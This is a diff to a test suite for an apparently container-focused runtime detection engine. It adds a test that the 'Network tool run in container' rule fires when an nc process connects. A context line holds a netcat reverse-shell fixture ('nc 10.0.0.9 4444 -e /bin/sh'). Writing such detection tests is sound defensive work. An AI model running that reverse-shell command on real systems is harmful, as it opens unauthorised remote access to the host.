@@ -231,6 +231,12 @@ describe('rules that follow the process tree', () => {
     expect(run([exec('/bin/sh', ['sh', '-c', 'cat /tmp/f'], { pid: 21 })]).map((a) => a.rule)).not.toContain('Execution from tmp or shm');
   });
 
+  test('a network tool run as an in-process applet (no exec, so the name comes from comm) is seen when it connects', () => {
+    const alerts = run([exec('/bin/sh', ['sh', '/job.sh'], { pid: 40 }), connect('10.0.0.9', 22, { pid: 41, comm: 'nc' })]).map((a) => a.rule);
+    expect(alerts).toContain('Network tool run in container');
+    expect(run([exec('/bin/sh', ['sh', '/job.sh'], { pid: 40 }), connect('10.0.0.9', 22, { pid: 41, comm: 'wget' })]).map((a) => a.rule)).not.toContain('Network tool run in container');
+  });
+
   test('a connection seen before the fork that created its process is kept (events from separate ring buffers)', () => {
     const alerts = run([
       exec('/bin/nc', ['nc', '10.0.0.9', '4444', '-e', '/bin/sh'], { pid: 30 }),
